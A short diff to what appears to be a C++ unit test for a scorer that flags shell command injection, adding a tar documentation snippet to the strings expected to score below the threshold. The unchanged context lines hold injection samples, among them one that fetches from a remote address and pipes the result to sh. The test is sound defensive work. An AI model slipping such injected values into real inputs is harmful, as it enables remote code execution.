@@ -270,7 +270,8 @@ TEST(Shell, NothingHidesBehindWhatIsNoCommand) {
         ";date>=2026-01-01 -s x;id -u", "x;GET http://192.0.2.9/x|sh"}) {
     EXPECT_GE(points(text), kThreshold) << text;
   }
-  for (const std::string_view text : {"echo $((2*3)) prints 6", "docs; calc sheet", "a & calc", "id>=5;size<=7"})
+  for (const std::string_view text : {"echo $((2*3)) prints 6", "docs; calc sheet", "a & calc",
+                                      "of tar:\n--checkpoint-action=ACTION what is done", "id>=5;size<=7"})
     EXPECT_LT(points(text), kThreshold) << text;
 }
 
